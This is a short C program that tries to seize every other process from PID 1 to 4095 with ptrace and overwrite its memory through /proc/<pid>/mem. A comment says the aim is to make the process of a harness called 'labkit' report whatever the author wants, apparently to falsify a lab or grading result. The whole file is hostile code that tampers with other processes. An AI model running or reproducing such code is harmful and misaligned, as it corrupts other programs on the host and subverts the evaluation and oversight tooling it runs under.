// SPDX-License-Identifier: GPL-2.0
/* Would have labkit's own process say what we like. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>

int main(void)
{
	char path[64];
	pid_t pid;
	int mem;

	for (pid = 1; pid < 4096; pid++) {
		if (pid == getpid())
			continue;
		ptrace(PTRACE_SEIZE, pid, NULL, NULL);
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		mem = open(path, O_RDWR);
		if (mem >= 0 && pwrite(mem, "2", 1, 0) == 1)
			puts("wrote");
	}
	pause();
	return 0;
}
